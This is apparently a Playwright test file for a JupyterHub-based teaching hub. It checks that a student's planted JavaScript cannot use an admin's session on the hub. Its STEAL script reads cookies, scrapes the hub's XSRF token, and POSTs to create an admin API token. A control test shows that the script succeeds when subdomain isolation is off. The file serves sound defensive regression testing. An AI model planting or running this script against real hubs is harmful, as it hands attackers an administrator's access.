"""A project's JavaScript cannot reach the hub as the person who opened the project.

The attack: a student plants JavaScript in a project (a JupyterLab extension in its
home, a served HTML file) and gets an admin to open it. Whatever the planted script is,
it runs on the page the admin opened; here that script is run with `page.evaluate` on
the project's JupyterLab page, exactly where an extension would run. It tries what gave
a student admin rights when projects shared the hub's origin: read the hub's token page
(with its XSRF token) and the hub's API with the admin's cookies, then make a token.
"""

import os

from playwright.async_api import expect

from ..hubfixture import PASSWORD, remove_project_accounts
from ..hubprocess import HubProcess
from .steps import LAB_TIMEOUT_MS

# what a planted extension would do, given the hub's URL
STEAL = """
async (hub) => {
  const seen = {cookies: document.cookie};
  let xsrf = "";
  for (const [key, path] of [["token_page", "/hub/token"], ["user", "/hub/api/user"]]) {
    try {
      const r = await fetch(hub + path, {credentials: "include"});
      const text = await r.text();
      const found = text.match(/xsrf_token: "([^"]+)"/);
      if (found) xsrf = found[1];
      seen[key] = {status: r.status, text: text.slice(0, 200), xsrf: !!found};
    } catch (e) {
      seen[key] = {blocked: String(e)};
    }
  }
  try {
    const r = await fetch(hub + "/hub/api/users/admin/tokens", {
      method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json", "X-XSRFToken": xsrf},
      body: JSON.stringify({note: "stolen"}),
    });
    seen.new_token = {status: r.status, text: (await r.text()).slice(0, 200)};
  } catch (e) {
    seen.new_token = {blocked: String(e)};
  }
  return seen;
}
"""


async def test_project_script_cannot_act_as_the_admin_who_opens_it(hub, people):
    mallory = await hub.person("mallory-origins")
    pid = (await mallory.create_project("Homework 1"))["id"]
    await mallory.start_project(pid)
    admin = await people("admin", account=True)
    try:
        page = admin.page
        # admins may open any project; the project is on its own origin
        lab = hub.project_url(pid, "lab")
        assert lab.startswith(f"http://{pid}.hub.localhost:")
        await page.goto(lab)
        # JupyterHub asks an admin before letting someone else's server identify them
        await page.locator("form [type='submit']", has_text="Authorize").click()
        await admin.wait_for_lab(pid)
        await expect(page.locator("#jp-main-dock-panel")).to_be_visible(timeout=LAB_TIMEOUT_MS)
        assert page.url.startswith(f"http://{pid}.hub.localhost:")

        seen = await page.evaluate(STEAL, hub.url)

        # the browser refuses to let the project's page read the hub's answers
        assert "blocked" in seen["token_page"], seen["token_page"]
        assert "blocked" in seen["user"], seen["user"]
        # and no hub cookie (session or XSRF) is readable on the project's origin
        assert "jupyterhub-hub-login" not in seen["cookies"]
        # a POST with the admin's cookies but without the hub's XSRF token makes nothing
        assert seen["new_token"].get("status") in (None, 403), seen["new_token"]
        r = await hub.admin.api("GET", "users/admin/tokens")
        assert r.status_code == 200, r.text
        assert not [t for t in r.json()["api_tokens"] if t.get("note") == "stolen"]
    finally:
        await mallory.stop_project(pid)


async def test_without_subdomains_the_same_script_succeeds_and_admins_are_warned(
    hub_root, chromium
):
    """The control: a hub told not to use subdomains, with open sign-up.

    There the planted script reads the hub's token page with the admin's cookies, which
    is why smchub turns subdomains on by default; the hub says so at start and on every
    page an admin sees.
    """
    hub = HubProcess(
        os.path.join(hub_root, "same-origin-hub"),
        extra_config='c.JupyterHub.subdomain_host = ""\n',
    )
    await hub.start()
    context = await chromium.new_context()
    try:
        assert "not set) while it lets people sign themselves up" in hub.log()
        admin = await hub.person("admin")
        mallory = await hub.person("mallory")
        pid = (await mallory.create_project("Homework 1"))["id"]
        await mallory.start_project(pid)

        page = await context.new_page()
        await page.goto(hub.url + "/hub/login")
        await page.locator("input[name='username']").fill(admin.name)
        await page.locator("input[name='password']").fill(PASSWORD)
        async with page.expect_navigation():
            await page.locator("form [type='submit']").click()
        await expect(page.locator("#origin-warning")).to_contain_text("not isolated")

        await page.goto(f"{hub.url}/user/{pid}/lab")
        await page.locator("form [type='submit']", has_text="Authorize").click()
        await expect(page.locator("#jp-main-dock-panel")).to_be_visible(timeout=LAB_TIMEOUT_MS)
        seen = await page.evaluate(STEAL, hub.url)
        # it reads the hub's token page with its XSRF token, and makes itself a token
        assert seen["token_page"].get("xsrf"), seen["token_page"]
        assert seen["new_token"].get("status") == 201, seen["new_token"]
        r = await admin.api("GET", "users/admin/tokens")
        assert [t for t in r.json()["api_tokens"] if t.get("note") == "stolen"]
        await mallory.stop_project(pid)
    finally:
        await context.close()
        await hub.stop()
        projects = os.path.join(hub.root, "data", "projects")
        remove_project_accounts(os.listdir(projects) if os.path.isdir(projects) else [])
